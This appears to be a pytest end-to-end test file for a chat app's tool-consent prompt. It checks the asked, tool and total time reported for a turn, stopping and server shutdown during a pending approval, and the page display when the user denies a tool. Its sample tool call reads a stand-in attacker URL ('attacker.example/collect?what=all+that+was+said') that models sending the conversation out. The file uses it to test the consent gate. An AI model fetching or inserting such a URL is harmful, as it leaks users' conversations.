"""Turns in which a person is asked whether a tool may run: what is told of their time, and what ends them."""

import asyncio
import contextlib
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from tests.e2e.app_with_tools import AppWithTools, answer, app_with_tools, call, card, give
from tests.e2e.browser import answered, ask, browsing
from tests.e2e.chat_client import ChatClient, chatting
from tests.provider.replies import Hold, Reply
from tests.provider.server import ProviderServer
from ui.stored_turns import turns_in

pytestmark = pytest.mark.e2e

UNKNOWN = "https://attacker.example/collect?what=all+that+was+said"
ASKED_S = 1.4
PATIENCE_S = 60
AT_ONCE_S = 20


@pytest.fixture(scope="module")
def home(shared_provider: ProviderServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppWithTools]:
    with app_with_tools(tmp_path_factory.mktemp("tools"), shared_provider) as home:
        yield home


def script(provider: ProviderServer) -> None:
    provider.add(call("search_web", query="trams"), call("read_page", url=UNKNOWN), answer("It says little."))


def facts(chat: ChatClient) -> dict[str, Any]:
    """What is told of the turn, in numbers."""
    lines = [step for step in chat.page.of_type("undefined") if "turn" in step["metadata"]]
    return dict(lines[-1]["metadata"]["turn"])


def parts(turn: dict[str, Any]) -> float:
    names = ("thinking_seconds", "tool_seconds", "asked_seconds", "writing_seconds", "waiting_seconds")
    return float(sum(turn[name] for name in names))


async def test_the_time_until_an_answer_is_no_time_of_the_tool(home: AppWithTools, provider: ProviderServer) -> None:
    script(provider)
    async with chatting(home.url) as chat:
        await chat.send("What is new about trams?")
        await card(chat)
        await asyncio.sleep(ASKED_S)
        await give(chat, "allow")
        await asyncio.wait_for(chat.idle.wait(), 30)
        turn, step = facts(chat), chat.page.of_type("tool")[-1]
        table = chat.page.of_type("undefined")[-1]["output"]
    took = step["name"].removeprefix(f"Read {UNKNOWN}").removeprefix(" · ")
    assert not took or float(took.removesuffix(" s")) < ASKED_S
    assert turn["asked_seconds"] >= ASKED_S
    assert turn["tool_seconds"] < ASKED_S
    assert parts(turn) == pytest.approx(turn["seconds"], abs=0.1)
    assert "| Waiting for you |" in table


async def test_nor_is_it_when_the_turn_is_stopped_meanwhile(home: AppWithTools, provider: ProviderServer) -> None:
    script(provider)
    async with chatting(home.url) as chat:
        await chat.send("What is new about trams?")
        await card(chat)
        await asyncio.sleep(ASKED_S)
        await chat.stop()
        await asyncio.wait_for(chat.idle.wait(), 30)
        turn = facts(chat)
        assert chat.page.of_type("tool")[-1]["name"] == f"Read {UNKNOWN} · stopped"
    assert turn["ended"] == "stopped"
    assert turn["asked_seconds"] >= ASKED_S
    assert turn["tool_seconds"] < ASKED_S


async def test_a_turn_without_a_question_tells_of_none(home: AppWithTools, provider: ProviderServer) -> None:
    provider.add(call("search_web", query="trams"), answer("Little."))
    async with chatting(home.url) as chat:
        await chat.ask("What is new about trams?")
        assert facts(chat)["asked_seconds"] == 0
        assert "Waiting for you" not in chat.page.of_type("undefined")[-1]["output"]


async def nobody_listens(port: int) -> None:
    """Wait until the server takes no more connections."""
    with contextlib.suppress(ConnectionError):
        while True:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.close()
            await writer.wait_closed()


@pytest.mark.parametrize("is_late", [False, True], ids=["an open question", "a question that comes up then"])
async def test_the_end_of_the_server_waits_for_nobody_s_answer(
    provider: ProviderServer, tmp_path: Path, *, is_late: bool
) -> None:
    asks = call("read_page", url=UNKNOWN)
    provider.add(call("search_web", query="trams"), Reply((Hold(), *asks.parts)) if is_late else asks)
    with app_with_tools(tmp_path, provider, patience_s=PATIENCE_S) as home:
        async with chatting(home.url) as chat:
            await chat.send("What is new about trams?")
            if is_late:
                await asyncio.to_thread(provider.wait_for_request, 2)
            else:
                await card(chat)
            began = time.monotonic()
            home.app.process.terminate()
            await asyncio.wait_for(nobody_listens(home.app.port), AT_ONCE_S)
            provider.release()
            await asyncio.to_thread(home.app.process.wait, AT_ONCE_S)
            assert time.monotonic() - began < AT_ONCE_S
            cookies, thread_id = chat.http.cookies, chat.thread["id"]
    with app_with_tools(tmp_path, provider) as home:
        async with chatting(home.url, cookies=cookies, thread=thread_id) as again:
            ends = [turn.ended for turn in turns_in(again.thread["steps"])]
            names = [step["name"] for step in again.thread["steps"] if step["type"] == "tool"]
    assert ends == ["interrupted"]
    assert names[-1] == f"Read {UNKNOWN} · stopped"


async def test_on_the_page_no_seconds_run_meanwhile_and_a_no_is_quiet(
    home: AppWithTools, provider: ProviderServer
) -> None:
    script(provider)
    async with browsing(home.url, locale="en-US") as (page, _):
        tool = page.locator('[data-step-type="tool"]').last
        await ask(page, "What is new about trams?")
        await page.locator(".consent").wait_for()
        await asyncio.sleep(ASKED_S + 0.6)
        await expect(tool.locator(".loading-shimmer")).to_have_text(f"Reading {UNKNOWN}")
        await expect(page.locator("[data-elapsed]")).to_have_count(0)
        await page.click('.consent [data-choice="deny"]:not([disabled])')
        await answered(page)
        await expect(tool).to_contain_text(f"Read {UNKNOWN} · not allowed by you")
        await expect(tool.locator(".lucide-shield-x")).to_be_visible()
        await expect(tool.locator(".fill-destructive")).to_have_count(0)
